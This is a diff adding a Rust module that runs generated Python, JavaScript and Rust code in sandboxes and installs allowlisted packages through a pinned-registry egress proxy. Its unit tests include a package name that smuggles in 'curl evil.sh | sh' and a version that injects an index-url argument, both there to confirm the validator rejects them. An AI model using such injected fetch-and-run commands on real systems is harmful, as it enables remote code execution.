@@ -0,0 +1,408 @@
+use common::{
+    errors::{Result, HybridLLMError},
+    types::{CodeLanguage, NetworkMode, PackagePermissions},
+};
+use serde::{Deserialize, Serialize};
+use std::io::Write;
+use std::path::Path;
+use std::sync::Arc;
+use tokio::sync::{mpsc, RwLock};
+use tracing::info;
+use uuid::Uuid;
+
+use crate::artifacts;
+use crate::execution::{self, ExecutionEvent, ExecutionResult};
+use crate::network::EgressProxy;
+use crate::SandboxManager;
+
+/// A dependency requested for generated code
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq)]
+pub struct PackageSpec {
+    pub name: String,
+    /// Version or range in the ecosystem's own syntax; latest when unset
+    #[serde(default)]
+    pub version: Option<String>,
+}
+
+/// How code in one language is laid out, prepared and run in a sandbox
+struct Runner {
+    language: CodeLanguage,
+}
+
+impl Runner {
+    fn new(language: CodeLanguage) -> Self {
+        Self { language }
+    }
+
+    /// Where the code is written, relative to the sandbox root
+    fn source_path(&self) -> &'static str {
+        match self.language {
+            CodeLanguage::Python => "main.py",
+            CodeLanguage::JavaScript => "main.js",
+            CodeLanguage::Rust => "src/main.rs",
+        }
+    }
+
+    /// Create the project environment once; needs no network
+    fn setup_command(&self) -> &'static str {
+        match self.language {
+            CodeLanguage::Python => "[ -d .venv ] || python3 -m venv --system-site-packages .venv",
+            CodeLanguage::JavaScript => "[ -f package.json ] || npm init -y > /dev/null",
+            CodeLanguage::Rust => "[ -f Cargo.toml ] || cargo init --quiet --vcs none --name main .",
+        }
+    }
+
+    fn run_command(&self) -> &'static str {
+        match self.language {
+            CodeLanguage::Python => ".venv/bin/python main.py",
+            CodeLanguage::JavaScript => "node main.js",
+            // Dependencies were fetched by `install_packages`; the sandbox itself stays offline
+            CodeLanguage::Rust => "cargo run --quiet --offline",
+        }
+    }
+
+    fn default_registry(&self) -> &'static str {
+        match self.language {
+            CodeLanguage::Python => "https://pypi.org/simple",
+            CodeLanguage::JavaScript => "https://registry.npmjs.org/",
+            CodeLanguage::Rust => "sparse+https://index.crates.io/",
+        }
+    }
+
+    /// Hosts the install proxy may reach for `registry`
+    fn registry_hosts(&self, registry: &str) -> Vec<String> {
+        let mut hosts: Vec<String> = registry_host(registry).into_iter().collect();
+        if registry == self.default_registry() {
+            // The public registries serve package files from a separate host
+            match self.language {
+                CodeLanguage::Python => hosts.push("files.pythonhosted.org".to_string()),
+                CodeLanguage::Rust => hosts.push("static.crates.io".to_string()),
+                CodeLanguage::JavaScript => {}
+            }
+        }
+        hosts
+    }
+
+    /// Download-only install: no package build or install scripts are executed
+    /// Packages and the registry must already have passed `check_packages`
+    fn install_command(&self, packages: &[PackageSpec], registry: &str) -> String {
+        let specs: Vec<String> = packages
+            .iter()
+            .map(|package| {
+                let spec = match (&package.version, self.language) {
+                    (None, _) => package.name.clone(),
+                    (Some(version), CodeLanguage::Python) if version.starts_with(['=', '<', '>', '!', '~']) => {
+                        format!("{}{}", package.name, version)
+                    }
+                    (Some(version), CodeLanguage::Python) => format!("{}=={}", package.name, version),
+                    (Some(version), _) => format!("{}@{}", package.name, version),
+                };
+                format!("'{}'", spec)
+            })
+            .collect();
+        let specs = specs.join(" ");
+
+        match self.language {
+            CodeLanguage::Python => format!(
+                ".venv/bin/python -m pip install --quiet --disable-pip-version-check --no-input \
+                 --only-binary :all: --index-url '{}' {}",
+                registry, specs
+            ),
+            CodeLanguage::JavaScript => format!(
+                "npm install --ignore-scripts --no-audit --no-fund --registry '{}' {}",
+                registry, specs
+            ),
+            // Registry pinning for cargo lives in .cargo/config.toml
+            CodeLanguage::Rust => format!("cargo add --quiet {} && cargo fetch --quiet", specs),
+        }
+    }
+}
+
+/// Reject packages outside the allowlist and names that are not plain package specs
+pub(crate) fn check_packages(
+    language: CodeLanguage,
+    packages: &[PackageSpec],
+    permissions: &PackagePermissions,
+) -> Result<()> {
+    if packages.is_empty() {
+        return Err(HybridLLMError::InvalidRequest("No packages requested".to_string()));
+    }
+
+    let valid_name = |name: &str| {
+        !name.is_empty()
+            && !name.starts_with('-')
+            && name.chars().all(|c| c.is_ascii_alphanumeric() || "-_.@/".contains(c))
+    };
+    let valid_version = |version: &str| {
+        !version.is_empty()
+            && version.chars().all(|c| c.is_ascii_alphanumeric() || ".*+^~<>=!,-".contains(c))
+    };
+
+    for package in packages {
+        if !valid_name(&package.name) || !package.version.as_deref().is_none_or(valid_version) {
+            return Err(HybridLLMError::SecurityViolation(format!(
+                "Invalid package specification: {:?}",
+                package
+            )));
+        }
+    }
+
+    let allowed = permissions.allowed.get(&language).map(Vec::as_slice).unwrap_or_default();
+    let denied: Vec<&str> = packages
+        .iter()
+        .map(|package| package.name.as_str())
+        .filter(|name| !allowed.iter().any(|a| a == "*" || a.eq_ignore_ascii_case(name)))
+        .collect();
+
+    if !denied.is_empty() {
+        return Err(HybridLLMError::PermissionDenied(format!(
+            "Packages not allowed for {:?}: {}",
+            language,
+            denied.join(", ")
+        )));
+    }
+
+    Ok(())
+}
+
+/// Host part of a registry URL such as `sparse+https://index.crates.io/`
+fn registry_host(registry: &str) -> Option<String> {
+    let url = registry.strip_prefix("sparse+").unwrap_or(registry);
+    let rest = url
+        .strip_prefix("https://")
+        .or_else(|| url.strip_prefix("http://"))?;
+    let host = rest.split(['/', ':']).next()?;
+    (!host.is_empty()).then(|| host.to_string())
+}
+
+/// Write a file into a sandbox without following links planted by sandboxed code
+fn write_source(root: &Path, relative: &str, contents: &str) -> Result<()> {
+    let io_err = |e: std::io::Error| HybridLLMError::FileSystemError(e.to_string());
+    let relative = Path::new(relative);
+
+    let parent = match relative.parent().filter(|p| !p.as_os_str().is_empty()) {
+        Some(parent) => {
+            std::fs::create_dir_all(root.join(parent)).map_err(io_err)?;
+            artifacts::resolve_in_sandbox(root, &parent.to_string_lossy())?.1
+        }
+        None => root.to_path_buf(),
+    };
+    let path = parent.join(relative.file_name().unwrap_or_default());
+
+    match std::fs::remove_file(&path) {
+        Err(e) if e.kind() != std::io::ErrorKind::NotFound => return Err(io_err(e)),
+        _ => {}
+    }
+
+    std::fs::OpenOptions::new()
+        .write(true)
+        .create_new(true)
+        .open(&path)
+        .and_then(|mut file| file.write_all(contents.as_bytes()))
+        .map_err(io_err)
+}
+
+impl SandboxManager {
+    /// Replace the package allowlist and registries used by `install_packages`
+    pub async fn set_package_permissions(&self, permissions: PackagePermissions) {
+        *self.package_permissions.write().await = permissions;
+    }
+
+    /// Write `code` into a sandbox and run it with the language's toolchain
+    pub async fn run_code(
+        &self,
+        sandbox_id: Uuid,
+        language: CodeLanguage,
+        code: &str,
+    ) -> Result<ExecutionResult> {
+        let runner = Runner::new(language);
+
+        let setup = self.execute(sandbox_id, runner.setup_command(), None).await?;
+        if setup.exit_code != 0 {
+            return Ok(setup);
+        }
+
+        self.write_code(sandbox_id, &runner, code).await?;
+        self.execute(sandbox_id, runner.run_command(), None).await
+    }
+
+    /// Like `run_code`, streaming the program's output as it is produced
+    /// A failed toolchain setup is reported as a single `ExecutionEvent::Finished`
+    pub async fn run_code_stream(
+        &self,
+        sandbox_id: Uuid,
+        language: CodeLanguage,
+        code: &str,
+    ) -> Result<mpsc::Receiver<ExecutionEvent>> {
+        let runner = Runner::new(language);
+
+        let setup = self.execute(sandbox_id, runner.setup_command(), None).await?;
+        if setup.exit_code != 0 {
+            let (tx, rx) = mpsc::channel(1);
+            let _ = tx.send(ExecutionEvent::Finished { result: setup }).await;
+            return Ok(rx);
+        }
+
+        self.write_code(sandbox_id, &runner, code).await?;
+        self.execute_stream(sandbox_id, runner.run_command(), None).await
+    }
+
+    async fn write_code(&self, sandbox_id: Uuid, runner: &Runner, code: &str) -> Result<()> {
+        let root = self.sandbox_root(sandbox_id).await?;
+        let source_path = runner.source_path();
+        let code = code.to_string();
+        tokio::task::spawn_blocking(move || write_source(&root, source_path, &code))
+            .await
+            .map_err(|e| HybridLLMError::SandboxError(e.to_string()))?
+    }
+
+    /// Install dependencies after checking them against the package allowlist
+    /// Downloads go through a proxy that only reaches the pinned registry,
+    /// and package build or install scripts are never run
+    pub async fn install_packages(
+        &self,
+        sandbox_id: Uuid,
+        language: CodeLanguage,
+        packages: &[PackageSpec],
+    ) -> Result<ExecutionResult> {
+        let runner = Runner::new(language);
+        let registry = {
+            let permissions = self.package_permissions.read().await;
+            check_packages(language, packages, &permissions)?;
+            permissions
+                .registries
+                .get(&language)
+                .cloned()
+                .unwrap_or_else(|| runner.default_registry().to_string())
+        };
+
+        let hosts = runner.registry_hosts(&registry);
+        if hosts.is_empty() || registry.contains(['\'', ' ', '"', '\n']) {
+            return Err(HybridLLMError::ConfigError(format!(
+                "Invalid package registry for {:?}: {}",
+                language, registry
+            )));
+        }
+
+        info!("📦 Installing {:?} packages in sandbox {} from {}: {:?}",
+              language, sandbox_id, registry, packages);
+
+        let setup = self.execute(sandbox_id, runner.setup_command(), None).await?;
+        if setup.exit_code != 0 {
+            return Ok(setup);
+        }
+
+        let context = self.prepare(sandbox_id, None).await?;
+        if language == CodeLanguage::Rust && registry != runner.default_registry() {
+            let config = format!(
+                "[source.crates-io]\nreplace-with = \"pinned\"\n\n[source.pinned]\nregistry = \"{}\"\n",
+                registry
+            );
+            write_source(&context.cwd, ".cargo/config.toml", &config)?;
+        }
+
+        let (mut confinement, listener) = context.confinement.with_egress().await?;
+        let proxy = EgressProxy::start_in_namespace(
+            listener,
+            sandbox_id,
+            NetworkMode::ProxyOnly,
+            Arc::new(RwLock::new(hosts)),
+            Arc::clone(&context.network),
+            self.events.clone(),
+        )?;
+        confinement.set_proxy(&proxy);
+
+        let command = runner.install_command(packages, &registry);
+        let result = execution::run_command(
+            &command,
+            &context.cwd,
+            &context.environment,
+            &confinement,
+            Some(context.timeout),
+            None,
+        )
+        .await?;
+
+        context.report(&self.events, sandbox_id, &command, &result);
+        Ok(result)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::collections::HashMap;
+
+    fn package(name: &str, version: Option<&str>) -> PackageSpec {
+        PackageSpec { name: name.to_string(), version: version.map(String::from) }
+    }
+
+    #[test]
+    fn test_check_packages() {
+        let permissions = PackagePermissions {
+            allowed: HashMap::from([(CodeLanguage::Python, vec!["numpy".to_string()])]),
+            registries: HashMap::new(),
+        };
+
+        assert!(check_packages(CodeLanguage::Python, &[package("NumPy", Some(">=1.26"))], &permissions).is_ok());
+        assert!(matches!(
+            check_packages(CodeLanguage::Python, &[package("requests", None)], &permissions),
+            Err(HybridLLMError::PermissionDenied(_))
+        ));
+        assert!(matches!(
+            check_packages(CodeLanguage::Rust, &[package("serde", None)], &permissions),
+            Err(HybridLLMError::PermissionDenied(_))
+        ));
+        assert!(matches!(
+            check_packages(CodeLanguage::Python, &[package("numpy'; curl evil.sh | sh; '", None)], &permissions),
+            Err(HybridLLMError::SecurityViolation(_))
+        ));
+        assert!(matches!(
+            check_packages(CodeLanguage::Python, &[package("numpy", Some("1.0 --index-url x"))], &permissions),
+            Err(HybridLLMError::SecurityViolation(_))
+        ));
+    }
+
+    #[test]
+    fn test_install_commands_pin_registry() {
+        let python = Runner::new(CodeLanguage::Python);
+        let command = python.install_command(&[package("numpy", Some("1.26.4"))], "https://mirror.internal/simple");
+        assert!(command.contains("--index-url 'https://mirror.internal/simple'"));
+        assert!(command.contains("--only-binary :all:"));
+        assert!(command.ends_with("'numpy==1.26.4'"));
+        assert_eq!(python.registry_hosts("https://mirror.internal/simple"), vec!["mirror.internal"]);
+
+        let node = Runner::new(CodeLanguage::JavaScript);
+        assert!(node.install_command(&[package("lodash", None)], node.default_registry()).contains("--ignore-scripts"));
+
+        let rust = Runner::new(CodeLanguage::Rust);
+        assert_eq!(
+            rust.registry_hosts(rust.default_registry()),
+            vec!["index.crates.io", "static.crates.io"]
+        );
+    }
+
+    #[tokio::test]
+    async fn test_run_python_code() {
+        if !Path::new("/usr/bin/python3").exists() {
+            return;
+        }
+
+        let base = std::env::temp_dir().join(format!("sandboxes-{}", Uuid::new_v4()));
+        let manager = SandboxManager::new(base.clone()).unwrap();
+        let id = manager.checkout(None, None).await.unwrap();
+
+        let result = manager
+            .run_code(id, CodeLanguage::Python, "import sys\nprint(sys.prefix.endswith('.venv'))")
+            .await
+            .unwrap();
+        assert_eq!(result.stdout, "True\n");
+
+        assert!(manager
+            .install_packages(id, CodeLanguage::Python, &[package("left-pad", None)])
+            .await
+            .is_err());
+
+        let _ = std::fs::remove_dir_all(base);
+    }
+}